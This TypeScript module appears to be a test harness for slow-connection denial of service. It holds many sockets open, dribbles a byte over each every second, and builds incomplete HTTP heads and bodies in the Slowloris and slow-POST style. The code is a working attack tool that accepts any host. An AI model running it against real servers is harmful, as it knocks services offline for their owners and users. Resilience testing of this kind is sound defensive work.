// Somebody who holds as many connections open as they get, and sends next to nothing by them.
import { connect, type Socket } from "node:net";

export interface Held {
  /** How many are open at this moment. */
  open(): number;
  release(): void;
}

interface Attack {
  count: number;
  /** Which address of this machine they come from. */
  from: string;
  /** What each sends first: nothing, a part of a head, or a head and a part of its body. */
  start: string;
}

const DRIBBLE_EVERY_MS = 1000;
const OPENED_AT_ONCE = 100;
/** Fewer, once all are open: to open many without end would be another attack. */
const OPENED_AGAIN = 10;
const PAUSE_MS = 50;

/** Opens them, sends a byte each second by each, and opens a new one for each that is closed, until they are let go. */
export function holdSockets(url: string, { count, from, start }: Attack): Held {
  const { port, hostname } = new URL(url);
  const host = hostname === "localhost" ? "127.0.0.1" : hostname;
  const sockets = new Set<Socket>();
  let opened = 0;
  const openSome = () => {
    const most = Math.min(count - sockets.size, opened < count ? OPENED_AT_ONCE : OPENED_AGAIN);
    opened += most;
    for (let number = 0; number < most; number += 1) {
      const socket = connect({ port: Number(port), host, localAddress: from, allowHalfOpen: true });
      sockets.add(socket);
      if (start) socket.write(start);
      socket.on("error", () => {});
      socket.once("close", () => sockets.delete(socket));
      socket.resume();
    }
  };
  const opening = setInterval(openSome, PAUSE_MS);
  const dribbling = setInterval(() => sockets.forEach((socket) => start && socket.write("x")), DRIBBLE_EVERY_MS);
  return {
    open: () => [...sockets].filter(({ pending }) => !pending).length,
    release() {
      clearInterval(opening);
      clearInterval(dribbling);
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** The head of a request with a body that never comes whole. */
export const slowBody = (url: string, path: string, headers: Record<string, string> = {}, method = "POST"): string => {
  const { host, origin } = new URL(url);
  const all = { host, origin, "content-type": "application/json", "content-length": "900000", ...headers };
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`);
  return `${method} ${path} HTTP/1.1\r\n${lines.join("")}\r\n`;
};

export const slowHead = (url: string): string => `GET / HTTP/1.1\r\nhost: ${new URL(url).host}\r\nx-slow: `;
